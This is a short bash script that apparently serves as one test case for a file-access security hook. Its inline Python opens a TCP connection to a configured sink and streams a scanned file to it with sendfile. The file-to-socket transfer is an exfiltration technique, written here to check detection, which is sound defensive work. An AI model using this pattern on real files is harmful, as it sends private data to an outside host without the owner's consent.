#!/usr/bin/env bash
# technique: sendfile to a connected socket
# hooks: file_permission
# sink: private-tcp

. attack.sh
python3 - <<'PY'
from attack import *

with socket.create_connection(TCP, 5) as sink, open(SCAN, "rb") as file:
    sink.sendfile(file)
PY
